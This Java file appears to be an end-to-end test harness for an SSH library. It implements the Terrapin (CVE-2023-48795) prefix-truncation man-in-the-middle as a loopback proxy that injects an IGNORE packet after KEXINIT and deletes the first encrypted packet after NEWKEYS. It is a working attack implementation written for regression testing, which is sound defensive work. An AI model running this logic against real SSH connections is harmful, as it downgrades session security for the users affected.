package ssh.test.endtoend;

import java.io.BufferedInputStream;
import java.io.DataInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.function.IntUnaryOperator;
import ssh.api.wire.MessageNumbers;
import ssh.api.wire.WireWriter;

/**
 * The Terrapin man in the middle (CVE-2023-48795, Bäumer, Brinkmann and Schwenk 2023) on loopback:
 * a TCP proxy between one client and one server, a virtual thread per direction, that reads the
 * binary packets of RFC 4253 section 6 while they are cleartext (before the first NEWKEYS: no
 * MAC, no encryption) and, in the attacked direction:
 * <ul>
 *   <li>injects a correctly framed SSH_MSG_IGNORE right after the sender's KEXINIT, so that the
 *   receiver's sequence number runs one ahead of the sender's;</li>
 *   <li>deletes the sender's first packet after its NEWKEYS (EXT_INFO from a server), so that the
 *   two sequence numbers agree again and the MAC or tag of every later packet verifies.</li>
 * </ul>
 * The first encrypted packet's length cannot be read under chacha20-poly1305 (its length field is
 * encrypted), so the caller says how long it is: {@code dropLength} maps the packet's first four
 * bytes (the plaintext length under an encrypt-then-MAC mode, ciphertext otherwise) to the number
 * of bytes to delete. Everything else is passed on unchanged; end of stream is passed on as a
 * half-close.
 */
final class TerrapinProxy implements AutoCloseable {
    private final ServerSocket listener;
    private final int serverPort;
    private final boolean attackDownstream;
    private final boolean inject;
    private final IntUnaryOperator dropLength;
    private volatile Socket clientSide;
    private volatile Socket serverSide;
    private volatile boolean injected;
    private volatile int droppedBytes = -1;
    /** Cleartext packets seen in the attacked direction before its NEWKEYS (NEWKEYS included). */
    private volatile int cleartextPackets;

    /**
     * @param attackDownstream attack the server-to-client direction (the paper's), else client to server
     * @param inject whether to inject the IGNORE after the KEXINIT
     * @param dropLength how many bytes the first encrypted packet has, given its first four; null to drop nothing
     */
    TerrapinProxy(int serverPort, boolean attackDownstream, boolean inject, IntUnaryOperator dropLength)
            throws IOException {
        this.serverPort = serverPort;
        this.attackDownstream = attackDownstream;
        this.inject = inject;
        this.dropLength = dropLength;
        this.listener = new ServerSocket(0, 1, InetAddress.getLoopbackAddress());
        Thread.ofVirtual().name("terrapin-proxy-accept").start(this::accept);
    }

    int port() {
        return listener.getLocalPort();
    }

    /** Whether the IGNORE went out. */
    boolean injected() {
        return injected;
    }

    /** Bytes deleted after NEWKEYS, or -1 if nothing was. */
    int droppedBytes() {
        return droppedBytes;
    }

    int cleartextPackets() {
        return cleartextPackets;
    }

    private void accept() {
        try {
            Socket c = listener.accept();
            Socket s = new Socket(InetAddress.getLoopbackAddress(), serverPort);
            c.setTcpNoDelay(true);
            s.setTcpNoDelay(true);
            clientSide = c;
            serverSide = s;
            Thread.ofVirtual().name("terrapin-proxy-up").start(() -> pump(c, s, !attackDownstream));
            Thread.ofVirtual().name("terrapin-proxy-down").start(() -> pump(s, c, attackDownstream));
        } catch (IOException e) {
            close();
        }
    }

    private void pump(Socket from, Socket to, boolean attack) {
        try {
            OutputStream out = to.getOutputStream();
            InputStream raw = from.getInputStream();
            if (attack) {
                DataInputStream in = new DataInputStream(new BufferedInputStream(raw));
                attack(in, out);
                raw = in;
            }
            byte[] buf = new byte[16 * 1024];
            int n;
            while ((n = raw.read(buf)) > 0) {
                out.write(buf, 0, n);
            }
        } catch (IOException e) {
            // the connection is going away; pass that on below
        }
        try {
            to.shutdownOutput();
        } catch (IOException ignored) {
            // the other side is gone as well
        }
    }

    /** Passes on the version line and the cleartext packets up to NEWKEYS, tampering on the way. */
    private void attack(DataInputStream in, OutputStream out) throws IOException {
        int b;
        do { // the version line (neither secsh peer sends other lines before it)
            b = in.read();
            if (b < 0) {
                throw new IOException("end of stream in the version line");
            }
            out.write(b);
        } while (b != '\n');
        while (true) {
            int packetLength = in.readInt();
            if (packetLength < 5 || packetLength > 64 * 1024) {
                throw new IOException("not a cleartext packet: length " + packetLength);
            }
            byte[] rest = in.readNBytes(packetLength);
            if (rest.length != packetLength) {
                throw new IOException("end of stream in a packet");
            }
            byte[] packet = new WireWriter(4 + packetLength).writeUint32(packetLength).writeBytes(rest).toByteArray();
            out.write(packet);
            cleartextPackets++;
            int msg = rest[1] & 0xff;
            if (msg == MessageNumbers.KEXINIT && inject && !injected) {
                out.write(cleartextIgnore());
                injected = true;
            }
            if (msg == MessageNumbers.NEWKEYS) {
                break;
            }
        }
        if (dropLength != null) {
            int first4 = in.readInt();
            int total = dropLength.applyAsInt(first4);
            in.skipNBytes(total - 4);
            droppedBytes = total;
        }
    }

    /** SSH_MSG_IGNORE framed as RFC 4253 section 6 asks of a packet before any NEWKEYS: block size 8, no MAC. */
    static byte[] cleartextIgnore() {
        byte[] payload = new WireWriter(32).writeByte(MessageNumbers.IGNORE)
                .writeString("Terrapin".getBytes(StandardCharsets.US_ASCII)).toByteArray();
        int pad = 8 - (4 + 1 + payload.length) % 8;
        if (pad < 4) {
            pad += 8;
        }
        return new WireWriter(64).writeUint32(1 + payload.length + pad).writeByte(pad).writeBytes(payload)
                .writeBytes(new byte[pad]).toByteArray();
    }

    /**
     * The on-the-wire size of a packet carrying {@code payloadLength} bytes under
     * chacha20-poly1305@openssh.com: the length field is outside the 8-byte padding alignment, minimal
     * padding of at least 4 bytes (secsh pads minimally), a 16-byte Poly1305 tag.
     */
    static int chachaPacketSize(int payloadLength) {
        int pad = 8 - (1 + payloadLength) % 8;
        if (pad < 4) {
            pad += 8;
        }
        return 4 + 1 + payloadLength + pad + 16;
    }

    @Override
    public void close() {
        for (java.io.Closeable c : new java.io.Closeable[] {listener, clientSide, serverSide}) {
            try {
                if (c != null) {
                    c.close();
                }
            } catch (IOException ignored) {
                // closing anyway
            }
        }
    }
}
